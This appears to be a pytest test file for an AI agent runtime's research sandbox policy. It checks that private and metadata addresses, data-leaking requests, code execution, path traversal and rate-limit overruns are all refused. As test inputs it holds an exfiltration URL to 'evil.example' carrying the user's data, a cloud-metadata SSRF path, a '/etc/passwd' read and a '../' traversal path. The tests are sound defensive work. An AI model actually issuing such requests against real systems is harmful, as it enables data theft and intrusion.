"""The research policy on a running kernel: the open web without private addresses, and either the web or the user's files."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

import agentos
from agentos.runtime.kernel import Kernel
from agentos.testing import FakeClock
from tests.builders import host, refused
from tests.policies.builders import Place, because, decided, kernel

pytestmark = pytest.mark.anyio
NEWS = "https://news.example/a"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for name in ("in", "out"):
        (tmp_path / "w" / name).mkdir(parents=True)
    (tmp_path / "w/in/brief.md").write_text("The merger is on.\n")
    return tmp_path / "w"


@asynccontextmanager
async def researcher(folder: Path, **options: Any) -> AsyncIterator[tuple[Kernel, agentos.Process, Place]]:
    async with kernel("research", workspace=folder, **options) as k:
        place = Place()
        place.serve(k, "exec.run", "net.fetch", "git.commit", "llm.complete", "tool.install")
        yield k, await host(k, "fs.*", "net.*", "exec.*", "git.*", "tool.*", "llm.*"), place


async def test_pages_are_read_and_a_report_is_written(folder: Path) -> None:
    async with researcher(folder) as (_, process, place):
        page = await process.call("net.fetch", url=NEWS)
        await process.call("fs.write", path="/out/report.md", text=page["body"])
        assert "EVIL-PAGE" in (folder / "out/report.md").read_text()
        assert place.done == [f"net.fetch {NEWS}"]


@pytest.mark.parametrize("host_", ["metadata.example", "rebound.example", "lan.example"])
async def test_a_name_that_leads_to_a_private_address_is_refused_before_the_first_byte(folder: Path, host_: str) -> None:
    async with researcher(folder) as (_, process, place):
        with pytest.raises(agentos.Denied, match="private and metadata ranges"):
            await process.call("net.fetch", url=f"https://{host_}/latest/meta-data")
        assert place.done == []


@pytest.mark.parametrize(
    ("url", "more"),
    [
        ("http://news.example/a", {}),
        (NEWS, {"method": "POST"}),
        (NEWS, {"method": "PUT", "body": "x"}),
        (NEWS, {"body": "The merger is on."}),
        ("https://evil.example/?q=" + "x" * 400, {}),
    ],
)
async def test_nothing_but_a_short_get_leaves(folder: Path, url: str, more: dict[str, Any]) -> None:
    async with researcher(folder) as (k, process, _):
        assert decided(k, process, "net.fetch", url=url, **more) == "deny"


async def test_who_has_read_the_users_files_reads_no_page_any_more(folder: Path) -> None:
    async with researcher(folder) as (_, process, place):
        await process.call("net.fetch", url=NEWS)
        await process.call("fs.read", path="/in/brief.md")
        assert await refused(process.call("net.fetch", url="https://evil.example/?q=merger")) in (
            "denied.policy",
            "denied.label",
        )
        assert len(place.done) == 1


async def test_a_file_written_after_reading_the_brief_closes_the_web_for_its_next_reader(folder: Path) -> None:
    async with researcher(folder) as (k, process, _):
        await process.call("fs.read", path="/in/brief.md")
        await process.call("fs.write", path="/out/summary.md", text="a merger")
        other = await host(k, "fs.*", "net.*")
        assert decided(k, other, "net.fetch", url=NEWS) == "allow"
        await other.call("fs.read", path="/out/summary.md")
        assert await refused(other.call("net.fetch", url=NEWS)) in ("denied.policy", "denied.label")


@pytest.mark.parametrize("name", ["run.sh", "a.py", "index.html", ".bashrc", "Makefile", "deep/er/x.js", "pic.svg"])
async def test_web_content_does_not_become_code(folder: Path, name: str) -> None:
    async with researcher(folder) as (k, process, _):
        assert because(k, process, "fs.write", path=f"/out/{name}", text="x") == "web content must not become code"


async def test_nothing_runs_and_nothing_is_installed_or_committed(folder: Path) -> None:
    async with researcher(folder) as (k, process, _):
        assert "must not become code" in because(k, process, "exec.run", argv=["python3", "/out/report.md"])
        assert "must not become code" in because(k, process, "tool.install", digest="tested")
        assert "must not become code" in because(k, process, "git.commit", message="x")


async def test_the_users_files_are_read_and_never_written(folder: Path) -> None:
    async with researcher(folder) as (k, process, _):
        assert decided(k, process, "fs.read", path="/in/brief.md") == "allow"
        assert decided(k, process, "fs.write", path="/in/brief.md", text="x") == "deny"
        assert decided(k, process, "fs.write", path="/out/../in/brief.md", text="x") == "deny"
        assert decided(k, process, "fs.read", path="/etc/passwd") == "deny"


async def test_one_host_gets_thirty_requests_a_minute_and_another_its_own_thirty(folder: Path) -> None:
    clock = FakeClock(1_000_000.0)
    async with researcher(folder, clock=clock, mode="noninteractive") as (_, process, place):
        for _ in range(30):
            await process.call("net.fetch", url=NEWS)
        with pytest.raises(agentos.Denied, match="30 per 1m by host"):
            await process.call("net.fetch", url="https://NEWS.example/b")
        await process.call("net.fetch", url="https://other.example/b")
        clock.advance(120)
        await process.call("net.fetch", url=NEWS)
        assert len(place.done) == 32
